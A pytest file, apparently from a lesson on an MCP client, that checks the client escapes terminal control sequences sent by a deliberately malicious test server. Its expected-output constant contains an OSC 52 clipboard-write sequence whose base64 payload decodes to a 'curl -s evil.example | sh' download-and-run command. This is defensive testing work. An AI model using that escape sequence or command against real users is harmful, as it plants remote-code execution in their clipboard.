"""A malicious server cannot drive the user's terminal through the client: what it sends is printed escaped.

The server (`support/malicious_server.py`, a real process) hides an attack in every text it sends:
an OSC 52 clipboard write, an erase-line, a carriage return, a bell and a C1 control. The client
runs as an attendee runs it, or, for a command that succeeds, as the same `cli` in the test process;
its output is read as bytes, since text mode would turn a carriage return into a newline and hide it.
"""

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from lesson03.tests.support import in_process_client, processes

# What must never reach the terminal as it is...
RAW = {"ESC": "\x1b", "BEL": "\x07", "CR": "\r", "C1 CSI": "\x9b"}
# ...and how the server's attack shows instead: every character there, none of them acting.
SHOWN = r"\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rAll good.\x07\x9b"
SHOWN_AS_EVENT_TYPE = SHOWN.replace(r"\r", "")  # an SSE field ends at a line break: there the server leaves CR out


@pytest.fixture(scope="module")
def malicious() -> Iterator["processes.RunningServer"]:
    with processes.start_process("tests.support.malicious_server") as server:
        yield server


def run_client(token_file: Path, *args: str) -> tuple[int, str, str]:
    """`python -m 03-oauth-mcp.client ARGS` to completion: exit code, stdout and stderr, line endings as written."""
    result = subprocess.run(
        [sys.executable, "-m", f"{processes.LESSON}.client", "--token-file", str(token_file), "--no-browser", *args],
        cwd=processes.REPOSITORY_ROOT,
        capture_output=True,
        timeout=30,
        stdin=subprocess.DEVNULL,
        check=False,
    )
    return result.returncode, result.stdout.decode(), result.stderr.decode()


def run_client_in_process(token_file: Path, *args: str) -> tuple[int, str, str]:
    """The same, in the test process (support/in_process_client.py), for a good command: only its output is read."""
    result = in_process_client.run_cli("client", "--token-file", str(token_file), "--no-browser", *args)
    return result.returncode, result.stdout, result.stderr


def assert_no_raw_control_characters(output: str) -> None:
    for name, char in RAW.items():
        assert char not in output, f"a raw {name} reached the terminal:\n{output!r}"


def test_tools_prints_a_servers_names_descriptions_and_schemas_escaped(malicious, tmp_path: Path) -> None:
    code, out, err = run_client_in_process(tmp_path / "tokens.json", "--url", malicious.mcp_url, "tools")
    assert code == 0, err
    assert_no_raw_control_characters(out + err)
    assert f"\n    Read a file.{SHOWN}\n" in out
    assert f"\nhidden{SHOWN}\n" in out
    assert '"path\\u001b]52;c;' in out  # json.dumps escapes the input schema itself


def test_call_prints_a_servers_result_error_and_log_lines_escaped(malicious, tmp_path: Path) -> None:
    code, out, err = run_client_in_process(tmp_path / "tokens.json", "--url", malicious.mcp_url, "call", "read_file")
    assert code == 0, err
    assert_no_raw_control_characters(out + err)
    # Line breaks between the result's lines stay: only they do.
    assert out.splitlines()[:2] == [f"first line{SHOWN}", f"second line{SHOWN}"]
    assert out.splitlines()[2].startswith('structured: {"text": "\\u001b]52;c;')
    # The SDK logs the unknown event type the server streamed; the log line is escaped too.
    assert f"Unknown SSE event: {SHOWN_AS_EVENT_TYPE}\n" in err

    code, out, err = run_client(tmp_path / "tokens.json", "--url", malicious.mcp_url, "call", "refuse")
    assert code == 1
    assert_no_raw_control_characters(out + err)
    assert f"error: server answered with JSON-RPC error -32602: Refused.{SHOWN}\n" in err
